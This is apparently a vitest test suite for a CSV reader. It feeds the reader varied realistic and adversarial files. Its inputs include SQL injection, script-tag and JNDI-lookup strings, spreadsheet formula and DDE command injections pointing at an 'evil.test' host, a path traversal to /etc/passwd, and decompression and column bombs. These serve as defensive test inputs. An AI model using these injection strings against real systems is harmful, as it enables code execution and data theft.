import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { describeCsv, type CsvDescription } from "./describe-csv.ts";
import { FileFailure, type FileFailureCode } from "./file-failure.ts";
import { csvBeginning, readCsv } from "./read-csv.ts";
import { RowWriter } from "./row-writer.ts";

/**
 * Realistic files, each with its exact outcome. A file is refused with a code, or read with this number of rows and rejections, and these columns and
 * first row where they matter.
 */
interface Read {
  readonly rows: number;
  readonly rejected?: number;
  readonly columns?: string;
  readonly first?: string;
}
type Outcome = FileFailureCode | Read;
type Case = readonly [name: string, file: string | Buffer, outcome: Outcome];

const utf16 = (text: string, mark = true) =>
  Buffer.concat([mark ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, "utf16le")]);
const bigEndian = (text: string, mark = true) => {
  const bytes = Buffer.from(text, "utf16le").swap16();
  return mark ? Buffer.concat([Buffer.from([0xfe, 0xff]), bytes]) : bytes;
};
const latin = (text: string) => Buffer.from(text, "latin1");
const repeat = (line: string, count: number) => Array.from({ length: count }, () => line).join("");
const wide = (columns: number) => Array.from({ length: columns }, (_, at) => `c${at}`).join(",");

const delimiters: readonly Case[] = [",", ";", "\t", "|", "^", "~"].map((delimiter) => [
  `separated by ${JSON.stringify(delimiter)}`,
  `a${delimiter}b${delimiter}c\n1${delimiter}x y${delimiter}2.5\n2${delimiter}z${delimiter}3\n`,
  { rows: 2, columns: "a INTEGER, b STRING, c FLOAT", first: "1\t1\tx y\t2.5" },
]);

const lineEnds: readonly Case[] = [
  ["LF", "\n"],
  ["CR LF", "\r\n"],
  ["CR", "\r"],
].map(([name, end]) => [`lines that end with ${name}`, `a,b${end}1,2${end}3,4${end}`, { rows: 2, first: "1\t1\t2" }]);

const words = ["NA", "N/A", "null", "NULL", "NaN", "None", "-", "\\N", " "];
const missing: readonly Case[] = words.map((word) => [
  `${JSON.stringify(word)} among numbers is missing`,
  `id,n\n1,5\n2,${word}\n3,7\n`,
  { rows: 3, rejected: 0, columns: "id INTEGER, n INTEGER" },
]);

const hostile = [
  "__proto__",
  "constructor",
  "toString",
  "'; DROP TABLE executions; --",
  "`) ENGINE = Memory; --",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '=HYPERLINK("http://evil.test")',
  "+1+1",
  "@SUM(A1)",
  "{{7*7}}",
  "${jndi:ldap://evil.test}",
  "../../etc/passwd",
  "c0",
  "row",
  "\u202etxt",
  "\u0000name",
  "a\u0007b",
  "ﬀ and ß and İ",
  "😀",
  "é".repeat(300),
  "  padded  ",
];
const hostileNames: readonly Case[] = hostile.map((name) => [
  `a column called ${JSON.stringify(name.slice(0, 30))}`,
  `"${name.replaceAll('"', '""')}",n\nx,1\ny,2\n`,
  { rows: 2, rejected: 0, first: "1\tx\t1" },
]);
const formulas: readonly Case[] = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1"].map((formula) => [
  `a cell with the formula ${JSON.stringify(formula)} is text`,
  `a,b\n"${formula}",1\nplain,2\n`,
  { rows: 2, columns: "a STRING, b INTEGER" },
]);
const numbers: readonly Case[] = [
  ["an integer past 2^53", "id,n\n1,9007199254740993\n", { rows: 1, columns: "id INTEGER, n FLOAT" }],
  ["the largest integer", "id,n\n1,9007199254740991\n2,-9007199254740991\n", { rows: 2, columns: "id INTEGER, n INTEGER" }],
  ["leading zeros are a code", "id,n\n1,007\n2,012\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["exponents", "id,n\n1,1e3\n2,-2.5E-4\n", { rows: 2, columns: "id INTEGER, n FLOAT" }],
  ["Infinity is no number", "id,n\n1,Infinity\n2,1\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["1e999 is no number", "id,n\n1,1e999\n2,1\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["a decimal comma is text", "id;n\n1;1,5\n2;2,5\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["hexadecimal is text", "id,n\n1,0x1F\n2,0x2\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["plus signs", "id,n\n1,+5\n2,+6\n", { rows: 2, columns: "id INTEGER, n INTEGER", first: "1\t1\t5" }],
  ["blanks around numbers", "id,n\n1, 5 \n2,\t6\n", { rows: 2, columns: "id INTEGER, n INTEGER", first: "1\t1\t5" }],
  [
    "a few mistakes among many numbers",
    `id,n\n${repeat("1,5\n", 200)}2,old\n`,
    { rows: 200, rejected: 1, columns: "id INTEGER, n INTEGER" },
  ],
  ["true and false are text", "id,n\n1,true\n2,false\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["arabic digits are text", "id,n\n1,٣\n2,٤\n", { rows: 2, columns: "id INTEGER, n STRING" }],
  ["a column of nothing", "id,n\n1,\n2,\n", { rows: 2, columns: "id INTEGER, n STRING", first: "1\t1\t\\N" }],
];
const quotes: readonly Case[] = [
  ["quoted cells", 'a,b\n"x, y","1"\n', { rows: 1, first: "1\tx, y\t1" }],
  ["doubled quotation marks", 'a,b\n"say ""hi""",1\n', { rows: 1, first: '1\tsay "hi"\t1' }],
  ["line breaks in a cell", 'a,b\n"two\nlines",1\n', { rows: 1, first: "1\ttwo\\nlines\t1" }],
  ["CR LF in a cell", 'a,b\r\n"two\r\nlines",1\r\n', { rows: 1, first: "1\ttwo\\r\\nlines\t1" }],
  ["tabs and backslashes in a cell", 'a,b\n"t\tb\\n",1\n', { rows: 1, first: "1\tt\\tb\\\\n\t1" }],
  ["an empty quoted cell is not missing", 'a,b\n"",1\nx,2\n', { rows: 2, first: "1\t\t1" }],
  ["a mark in the middle stands for itself", 'a,b\n5" pipe,1\n', { rows: 1, first: '1\t5" pipe\t1' }],
  ["text after a closed quotation", 'a,b\n"x"y,1\nz,2\n', { rows: 1, rejected: 1 }],
  ["blanks after a closed quotation", 'a,b\n"x" ,1\nz,2\n', { rows: 2, rejected: 0 }],
  ["a quotation that is never closed", 'a,b\nx,1\n"y,2\nz,3\n', { rows: 1, rejected: 1 }],
  ["only quotation marks", '""""""\n', { rows: 0 }],
  ["a quotation that swallows more than a row may have", `a,b\n"${"x".repeat(17 * 1024 * 1024)}`, "ROW_TOO_LONG"],
];
const shapes: readonly Case[] = [
  ["ragged rows, too short and too long", "a,b,c\n1,2,3\n1,2\n1,2,3,4\n4,5,6\n", { rows: 2, rejected: 2 }],
  ["blank lines", "a,b\n\n1,2\n\n\n3,4\n\n", { rows: 2, rejected: 0 }],
  ["no line break at the end", "a,b\n1,2", { rows: 1 }],
  ["a header and nothing else", "a,b\n", { rows: 0, columns: "a STRING, b STRING" }],
  ["a header without a line break", "a,b", { rows: 0 }],
  ["one column", "a\n1\n2\n", { rows: 2, columns: "a INTEGER" }],
  ["no header", "1,x\n2,y\n", { rows: 2, columns: "column_1 INTEGER, column_2 STRING" }],
  ["empty and equal names", "a,,a,a\n1,2,3,4\n", { rows: 1, columns: "a INTEGER, column_2 INTEGER, a_2 INTEGER, a_3 INTEGER" }],
  ["a delimiter at the end of every line", "a,b,\n1,2,\n", { rows: 1, columns: "a INTEGER, b INTEGER, column_3 STRING" }],
  ["the sep= line of a spreadsheet", "sep=;\na;b\n1;2\n", { rows: 1, columns: "a INTEGER, b INTEGER" }],
  ["a thousand columns", `${wide(1000)}\n${wide(1000)}\n`, { rows: 1 }],
  ["a thousand and one columns", `${wide(1001)}\n`, "TOO_MANY_COLUMNS"],
  ["a column bomb", `${",".repeat(1_000_000)}\n`, "TOO_MANY_COLUMNS"],
  ["a row with a million cells", `a,b\n1,2\n${",".repeat(1_000_000)}\n3,4\n`, { rows: 2, rejected: 1 }],
  ["a cell of 1 MB", `a,b\n${"x".repeat(1024 * 1024)},1\ny,2\n`, { rows: 2, rejected: 0 }],
  ["a cell of more than 1 MB", `a,b\nz,1\n${"x".repeat(1024 * 1024 + 1)},1\ny,2\n`, { rows: 2, rejected: 1 }],
  ["a file without a line break", "x".repeat(3 * 1024 * 1024), { rows: 0 }],
  ["only line breaks", "\n\n\r\n\n", "EMPTY"],
  ["nothing at all", "", "EMPTY"],
  ["only blanks", "   \n  \n", { rows: 1 }],
  ["many short rows", `a,b\n${repeat("1,2\n", 50_000)}`, { rows: 50_000, rejected: 0 }],
];
const encodings: readonly Case[] = [
  [
    "UTF-8 with a mark",
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from("ä,b\nö,1\n")]),
    { rows: 1, columns: "ä STRING, b INTEGER", first: "1\tö\t1" },
  ],
  ["UTF-16 with a mark", utf16("ä,b\nö,1\n"), { rows: 1, columns: "ä STRING, b INTEGER", first: "1\tö\t1" }],
  ["UTF-16 without one", utf16("name,b\nvalue,1\nother,2\n", false), { rows: 2, columns: "name STRING, b INTEGER" }],
  ["big-endian UTF-16", bigEndian("ä,b\nö,1\n"), { rows: 1, columns: "ä STRING, b INTEGER", first: "1\tö\t1" }],
  ["big-endian UTF-16 without a mark", bigEndian("name,b\nvalue,1\n", false), { rows: 1, columns: "name STRING, b INTEGER" }],
  ["UTF-16 cut in the middle of a character", utf16("a,b\nx,1\n").subarray(0, -1), { rows: 1 }],
  ["Latin-1", latin("name,b\nMüller,1\nSøren,2\n"), { rows: 2, first: "1\tMüller\t1" }],
  ["windows-1252", Buffer.from([...latin("name,b\n"), 0x80, ...latin("100,1\n")]), { rows: 1, first: "1\t€100\t1" }],
  ["UTF-32", Buffer.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]), "ENCODING_UNKNOWN"],
  ["emoji and combining characters", "a,b\n👩‍👩‍👧,1\né,2\n", { rows: 2, first: "1\t👩‍👩‍👧\t1" }],
  ["a lone surrogate in UTF-16", utf16("a,b\n\ud800,1\n"), { rows: 1, first: "1\t\ufffd\t1" }],
  [
    "a bad byte far behind the sample",
    Buffer.concat([Buffer.from(`a,b\n${repeat("x,1\n", 300_000)}`), Buffer.from([0xff, 0x2c, 0x31, 0x0a]), Buffer.from("y,2\n")]),
    { rows: 300_001, rejected: 1 },
  ],
  ["a null character in a cell", `a,b\nx\u0000y,1\n${repeat("z,2\n", 200)}`, { rows: 201, first: "1\tx\\0y\t1" }],
  ["mostly null characters", Buffer.alloc(5_000), "BINARY"],
];
const others: readonly Case[] = [
  ["a spreadsheet", Buffer.from("PK\u0003\u0004rest of a workbook", "latin1"), "ARCHIVE"],
  ["an old spreadsheet", Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), "ARCHIVE"],
  ["a PDF", "%PDF-1.7 ...", "BINARY"],
  ["a picture", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), "BINARY"],
  ["bzip2", "BZh91AY&SY", "BINARY"],
  ["zstd", Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, 0]), "BINARY"],
  ["a JSON list is no table, and its lines are rejected", '[{"a":1},\n{"a":2}]\n', { rows: 0, rejected: 1 }],
];
const packed: readonly Case[] = [
  ["gzip", gzipSync("a,b\n1,2\n3,4\n"), { rows: 2, first: "1\t1\t2" }],
  ["two gzip members", Buffer.concat([gzipSync("a,b\n1,2\n"), gzipSync("3,4\n")]), { rows: 2 }],
  ["gzip of UTF-16", gzipSync(utf16("ä;b\nö;1\n")), { rows: 1, columns: "ä STRING, b INTEGER" }],
  ["gzip of nothing", gzipSync(""), "EMPTY"],
  ["gzip inside gzip", gzipSync(gzipSync("a,b\n1,2\n")), "BINARY"],
  ["gzip of a spreadsheet", gzipSync(Buffer.from("PK\u0003\u0004", "latin1")), "ARCHIVE"],
  [
    "gzip cut off",
    gzipSync(`a,b\n${Array.from({ length: 50_000 }, (_, at) => `${at},${at * 7}`).join("\n")}\n`).subarray(0, 50_000),
    "GZIP_DAMAGED",
  ],
  ["gzip with a wrong header", Buffer.from([0x1f, 0x8b, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 0]), "GZIP_DAMAGED"],
  [
    "gzip with a damaged middle",
    damaged(gzipSync(`a,b\n${Array.from({ length: 50_000 }, (_, at) => `${at},${at * 7}`).join("\n")}\n`)),
    "GZIP_DAMAGED",
  ],
  ["a gzip bomb", gzipSync(`a,b\n${repeat(`${"x".repeat(500_000)},1\n`, 200)}`), "GZIP_BOMB"],
];

function damaged(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  copy.fill(0x5a, Math.floor(copy.length / 2), Math.floor(copy.length / 2) + 400);
  return copy;
}

const corpus: readonly Case[] = [
  ...delimiters,
  ...lineEnds,
  ...missing,
  ...hostileNames,
  ...formulas,
  ...numbers,
  ...quotes,
  ...shapes,
  ...encodings,
  ...others,
  ...packed,
];

interface Result {
  readonly description: CsvDescription;
  readonly rows: number;
  readonly rejected: number;
  readonly first: string;
}

/** As the product reads it: the form from the first megabyte, then the whole file in chunks. */
async function readFile(file: Buffer, chunkBytes: number): Promise<Result> {
  const description = await describeCsv(file.subarray(0, 1024 * 1024));
  const { form, columns } = description;
  const writer = new RowWriter(
    columns.map(({ name, type }, cell) => ({ cell, name, type })),
    form.columns,
  );
  async function* chunks(): AsyncGenerator<Buffer> {
    for (let at = 0; at < file.length; at += chunkBytes) yield file.subarray(at, at + chunkBytes);
  }
  let [rows, rejected, first] = [0, 0, ""];
  const reading = readCsv(chunks(), form, csvBeginning, (reader, row) => {
    if (writer.write(reader, row) !== undefined) rejected += 1;
    else rows += 1;
  });
  for await (const _ of reading) {
    if (writer.length === 0) continue;
    const written = writer.take();
    if (first === "") first = written.toString("utf8", 0, written.indexOf(10));
  }
  return { description, rows, rejected, first };
}

function readOf({ description, rows, rejected, first }: Result): Required<Read> {
  const columns = description.columns.map(({ name, type }) => `${name} ${type}`).join(", ");
  return { rows, rejected, columns, first };
}

describe("realistic files", () => {
  test("there are more than a hundred of them", () => expect(corpus.length).toBeGreaterThan(100));

  test.each(corpus)("%s", async (_name, file, outcome) => {
    const found = await readFile(Buffer.from(file), 64 * 1024).then(readOf, (error: unknown) => {
      if (error instanceof FileFailure) return error.code;
      throw error;
    });
    // Properties that are not declared for a file may be anything.
    expect(found).toEqual(typeof found === "string" || typeof outcome === "string" ? outcome : { ...found, ...outcome });
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });

  test("no column name contains control characters", async () => {
    for (const [, file] of hostileNames) {
      const { description } = await readFile(Buffer.from(file), 64 * 1024);
      // oxlint-disable-next-line no-control-regex -- what no name may hold.
      for (const { name } of description.columns) expect(name).toMatch(/^[^\u0000-\u001f\u202a-\u202e]{1,200}$/);
    }
  });

  test("of a file with many columns fewer rows are looked at", async () => {
    const numbers = `${Array.from({ length: 1_000 }, () => "1").join(",")}\n`;
    const wideFile = Buffer.from(`${wide(1_000)}\n${repeat(numbers, 500)}`);
    const found = await describeCsv(wideFile);
    expect(found.columns.every(({ type }) => type === "INTEGER")).toBe(true);
    expect(found.rowsLookedAt).toBe(50);
    expect((await describeCsv(Buffer.from(`a,b\n${repeat("1,2\n", 6_000)}`))).rowsLookedAt).toBe(5_000);
  });

  const small = corpus.filter(([, file, outcome]) => typeof outcome !== "string" && Buffer.from(file).length < 2_000);
  test.each(small)("%s, a byte at a time", async (_name, file) => {
    const bytes = Buffer.from(file);
    const [whole, crumbs] = [await readFile(bytes, bytes.length), await readFile(bytes, 1)];
    expect(crumbs).toEqual(whole);
  });
});
